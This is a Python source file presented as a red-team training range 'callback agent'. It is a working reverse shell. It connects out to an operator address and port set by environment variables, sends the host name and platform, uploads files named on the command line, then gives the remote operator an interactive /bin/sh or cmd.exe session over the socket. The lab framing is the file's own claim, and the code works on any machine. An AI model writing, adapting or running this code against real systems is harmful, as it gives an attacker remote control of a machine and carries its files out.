"""Lab callback agent.

Connects out to the operator console of the red-team training range and
gives it an interactive shell.  Runs on the range's Linux and Windows images.
"""
import os
import select
import shutil
import socket
import subprocess
import sys
import time

OPERATOR = (
    os.environ.get("RANGE_OPERATOR", "10.66.0.5"),
    int(os.environ.get("RANGE_PORT", "4444")),
)


def dial(addr, attempts=12):
    sock = None
    for attempt in range(attempts):
        try:
            sock = socket.create_connection(addr, timeout=10)
        except OSError:
            time.sleep(min(2 ** attempt, 60))
            continue
        else:
            sock.settimeout(None)
            break
    return sock


def posix_shell(s):
    if os.name != "posix":
        raise RuntimeError("posix_shell() needs a pty")
    import pty

    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(["/bin/sh", "-i"])


def windows_shell(s):
    proc = subprocess.Popen(  # error: WSK301
        ["cmd.exe", "/Q"],
        stdin=subprocess.PIPE,
        stdout=s,
        stderr=subprocess.STDOUT,
    )
    try:
        while proc.poll() is None:
            ready, _, _ = select.select([s], [], [], 0.5)
            if not ready:
                continue
            if not (line := os.read(s.fileno(), 4096)):  # error: WSK201
                break
            proc.stdin.write(line)
            proc.stdin.flush()
    finally:
        proc.kill()


def upload(s, path):
    size = os.path.getsize(path)
    s.sendall(f"FILE {os.path.basename(path)} {size}\n".encode())
    out = open(s.fileno(), "wb", closefd=False)  # error: WSK203
    with open(path, "rb") as src:
        shutil.copyfileobj(src, out)
    out.flush()


def main(argv):
    s = dial(OPERATOR)
    if s is None:
        return 1
    if "--mirror-stderr" in argv:
        # Tracebacks go straight to the operator console.
        os.dup2(s.fileno(), 2)  # error: WSK202
    try:
        s.sendall(f"agent {socket.gethostname()} {sys.platform}\n".encode())
        for path in argv[1:]:
            if path.startswith("--"):
                continue
            upload(s, path)
        if os.name == "posix":
            posix_shell(s)
        else:
            windows_shell(s)
    except (OSError, RuntimeError) as exc:
        print(f"agent: {exc}", file=sys.stderr)
        return 2
    finally:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
